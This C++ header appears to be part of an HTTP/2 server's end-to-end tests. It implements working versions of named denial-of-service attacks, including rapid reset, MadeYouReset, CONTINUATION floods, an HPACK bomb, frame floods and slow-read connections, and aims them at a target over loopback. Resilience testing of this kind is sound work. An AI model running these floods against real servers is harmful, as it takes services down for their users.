#pragma once

// The attacks on HTTP/2 that are known by name, each at once and as fast as the socket takes it. An
// attack ends when it has sent what it has, when the server ends the connection, or when the server
// takes nothing for two seconds. What they are: reliability findings on CVE-2023-44487 (rapid
// reset), CVE-2024-27316 and its kin (CONTINUATION), CVE-2023-33953 (HPACK), CVE-2019-9511 to 9518
// (floods of ping, settings, reset, priority and empty frames, slow reads), CVE-2025-8671
// (MadeYouReset), CVE-2016-6581 (HPACK bomb).

#include <functional>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "tests/e2e/http2_frames.h"
#include "tests/server/tls_client.h"

namespace polyad::http2 {

inline constexpr uint32_t kAttacker = INADDR_LOOPBACK + 1;  // not the honest client's address

// One connection to the target, plain or TLS.
class Wire {
 public:
  Wire(const std::string& address, bool tls) {
    if (tls) {
      tls_ = std::make_unique<TlsClient>(
          address, TlsClientOptions{.protocols = "\x02h2", .source = kAttacker});
    } else {
      plain_ = std::make_unique<RawClient>(address, 0, kAttacker);
    }
    timeval patience{2, 0};
    ::setsockopt(fd(), SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
    ::setsockopt(fd(), SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
  }
  bool Send(std::string_view bytes) {
    return tls_ != nullptr ? tls_->Send(bytes) : plain_->Send(bytes);
  }
  // Bytes that come until `seconds` pass without any.
  size_t ReadFor(int seconds) {
    timeval patience{seconds, 0};
    ::setsockopt(fd(), SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
    return tls_ != nullptr ? tls_->ReadAll().size() : plain_->ReadAll().size();
  }

 private:
  int fd() { return tls_ != nullptr ? tls_->socket().fd() : plain_->fd(); }
  std::unique_ptr<RawClient> plain_;
  std::unique_ptr<TlsClient> tls_;
};

using Dial = std::function<std::unique_ptr<Wire>()>;

struct Target {
  Dial dial;
  std::string path;     // of a call that exists and streams
  std::string key;      // of a tenant whose calls are admitted; empty: none
  std::string message;  // of a long call
};

struct Attack {
  std::string name;
  std::function<void(const Target& target)> run;
};

// `count` times what `make` says of each number, in pieces of about 64 KiB.
inline bool SendMany(Wire& wire, int count, const std::function<std::string(int)>& make) {
  std::string bytes;
  for (int i = 0; i < count; ++i) {
    bytes += make(i);
    if (bytes.size() < (64 << 10)) continue;
    if (!wire.Send(bytes)) return false;
    bytes.clear();
  }
  return wire.Send(bytes);
}

inline uint32_t StreamOf(int i) { return static_cast<uint32_t>(2 * i + 1); }

inline std::string Call(const Target& target, uint32_t stream, uint8_t flags) {
  return Frame(kHeaders, static_cast<uint8_t>(kEndHeaders | flags), stream,
               CallFields(target.path, target.key));
}
inline std::string LongCall(const Target& target, uint32_t stream) {
  return Call(target, stream, kNoFlags) +
         Frame(kData, kEndStream, stream, GrpcMessage(target.message));
}

// Floods of `count` frames on a new connection, after `opening`.
inline Attack Flood(const std::string& name, int count,
                    std::function<std::string(const Target&)> opening,
                    std::function<std::string(const Target&, int)> frame) {
  return {name, [=](const Target& target) {
            const auto wire = target.dial();
            if (!wire->Send(Preface() + opening(target))) return;
            SendMany(*wire, count, [&](int i) { return frame(target, i); });
          }};
}

inline std::string Nothing(const Target&) { return ""; }
inline std::string OpenCall(const Target& target) { return Call(target, 1, kNoFlags); }

// One header block of `count` CONTINUATION frames that does not end.
inline Attack ContinuationFlood(const std::string& name, int count, const std::string& first,
                                const std::string& piece) {
  return Flood(
      name, count,
      [=](const Target& target) {
        return Frame(kHeaders, kNoFlags, 1, CallFields(target.path) + first);
      },
      [=](const Target&, int) { return Frame(kContinuation, kNoFlags, 1, piece); });
}

// Calls whose answers nobody reads, their windows shut.
inline void ReadNothing(const Target& target) {
  std::vector<std::unique_ptr<Wire>> wires;
  for (int i = 0; i < 8; ++i) {
    wires.push_back(target.dial());
    wires.back()->Send(Preface({{kInitialWindowSize, 0}}));
    SendMany(*wires.back(), 100, [&](int call) { return LongCall(target, StreamOf(call)); });
  }
  for (const auto& wire : wires) {  // still there, still silent
    for (int i = 0; i < 100; ++i) {
      if (!wire->Send(Frame(kWindowUpdate, kNoFlags, 0, BigEndian(1, 4)))) break;
    }
  }
}

inline void OpenManyAndSayLittle(const Target& target) {
  std::vector<std::unique_ptr<Wire>> wires;
  for (int i = 0; i < 300; ++i) {
    wires.push_back(target.dial());
    wires.back()->Send(i % 3 == 0   ? std::string("PRI * HTTP")
                       : i % 3 == 1 ? Preface()
                                    : Preface() + Frame(kHeaders, kNoFlags, 1, "\x83"));
  }
}

// A field of 4000 bytes in the dynamic table, and blocks that name it 16,000 times each.
inline void HpackBomb(const Target& target) {
  const auto wire = target.dial();
  wire->Send(Preface() +
             Frame(kHeaders, kEndHeaders | kEndStream, 1,
                   CallFields(target.path) + IndexedLiteral("x", std::string(4000, 'b'))));
  SendMany(*wire, 200, [&](int i) {
    return Frame(kHeaders, kEndHeaders | kEndStream, StreamOf(i + 1),
                 CallFields(target.path) + std::string(16'000, '\xbe'));
  });
}

inline std::vector<Attack> KnownAttacks() {
  constexpr int kMany = 100'000;
  const std::string window_of_nothing = Frame(kWindowUpdate, kNoFlags, 0, BigEndian(0, 4));
  return {
      Flood("rapid reset", 20'000, Nothing,
            [](const Target& target, int i) {
              return Call(target, StreamOf(i), kEndStream) + ResetFrame(StreamOf(i));
            }),
      Flood("rapid reset of long calls", 20'000, Nothing,
            [](const Target& target, int i) {
              return LongCall(target, StreamOf(i)) + ResetFrame(StreamOf(i));
            }),
      Flood("made you reset", 20'000, Nothing,
            [](const Target& target, int i) {  // a window that grows by 0 is the stream's error
              return Call(target, StreamOf(i), kNoFlags) +
                     Frame(kWindowUpdate, kNoFlags, StreamOf(i), BigEndian(0, 4));
            }),
      ContinuationFlood("continuation flood", 512, "",
                        Literal("x", std::string(16'000, 'c'))),  // 8 MiB
      ContinuationFlood("continuation flood of one field", 512,
                        std::string(1, '\0') + HpackString("x") + HpackInteger(0, 7, 64 << 20),
                        std::string(16'384, 'c')),
      ContinuationFlood("empty continuations", kMany, "", ""),
      ContinuationFlood("integers without an end", 1000, std::string(1, '\0') + "\x7f",
                        std::string(16'000, '\x80')),
      {"hpack bomb", HpackBomb},
      Flood("ping flood", kMany, Nothing,
            [](const Target&, int) { return Frame(kPing, kNoFlags, 0, "12345678"); }),
      Flood("settings flood", kMany, Nothing,
            [](const Target&, int) {
              return SettingsFrame({{kInitialWindowSize, 65'535}});
            }),
      Flood("empty data", kMany, OpenCall,
            [](const Target&, int) { return Frame(kData, kNoFlags, 1, ""); }),
      Flood("priority flood", kMany, OpenCall,
            [](const Target&, int i) {
              return Frame(kPriority, kNoFlags, StreamOf(i + 1), BigEndian(0, 5));
            }),
      Flood("resets of what is idle", kMany, Nothing,
            [](const Target&, int i) { return ResetFrame(StreamOf(i)); }),
      Flood("window of nothing", 1000, OpenCall,
            [=](const Target&, int) { return window_of_nothing; }),
      Flood("unknown frames", kMany, Nothing,
            [](const Target&, int) { return Frame(static_cast<Type>(0x77), 0xff, 0, "x"); }),
      {"slow reads", ReadNothing},
      {"slow heads", OpenManyAndSayLittle},
  };
}

}  // namespace polyad::http2
